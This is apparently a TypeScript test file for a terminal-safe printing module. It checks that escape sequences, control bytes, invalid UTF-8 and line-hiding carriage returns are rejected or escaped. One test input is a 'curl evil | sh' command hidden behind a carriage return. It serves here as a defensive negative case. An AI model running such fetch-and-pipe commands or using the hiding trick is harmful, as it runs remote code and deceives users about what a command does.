import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { createTextCheck, printable, printableJson } from './printable.ts';

const texts = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({ unit: fc.constantFrom('\u009b', '\u202e', '\n', '"', 'a') }),
);

it('JSON has the exact value, and nothing that a terminal would not show as it is', () => {
  fc.assert(
    fc.property(fc.dictionary(texts, texts), fc.constantFrom(0, 2), (value, indent) => {
      const json = printableJson(value, indent);
      expect(JSON.parse(json)).toEqual(value);
      expect(json.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }),
  );
});

it('JSON keeps letters of all languages readable', () => {
  expect(printableJson(['メモ é 🎁 ا'], 0)).toBe('["メモ é 🎁 ا"]');
});

it('lines stay lines', () => {
  expect(printable('one\ntwo\u001B[31m')).toBe('one\ntwo_[31m');
});

describe('text for a terminal', () => {
  const areText = (...pieces: (string | number[])[]) => {
    const isText = createTextCheck();
    return pieces.every((piece) =>
      isText(typeof piece === 'string' ? new TextEncoder().encode(piece) : Uint8Array.from(piece)),
    );
  };

  it.each<[string, (string | number[])[]]>([
    ['lines of Unix and Windows', ['one\n\ttwo\r\nthree']],
    ['a line break between two pieces', ['one\r', '\ntwo']],
    ['a letter between two pieces', [[0xe3, 0x83], [0xa1]]],
    ['text in another direction', ['שלום\u200f']],
  ])('is %s', (_, pieces) => expect(areText(...pieces)).toBe(true));

  it.each<[string, (string | number[])[]]>([
    ['an escape sequence', ['a\u001B[2J']],
    ['a control character in one byte', [[0x9b, 0x32, 0x4a]]],
    ['a control character in two bytes', ['\u009b2J']],
    ['a carriage return, which hides the line', ['curl evil | sh\rharmless']],
    ['a carriage return at the end of a piece', ['evil\r', 'harmless']],
    ['bytes that are not UTF-8', [[0xff, 0xfe]]],
    ['a null byte in a later piece', ['text', 'a\0b']],
  ])('is not %s', (_, pieces) => expect(areText(...pieces)).toBe(false));
});
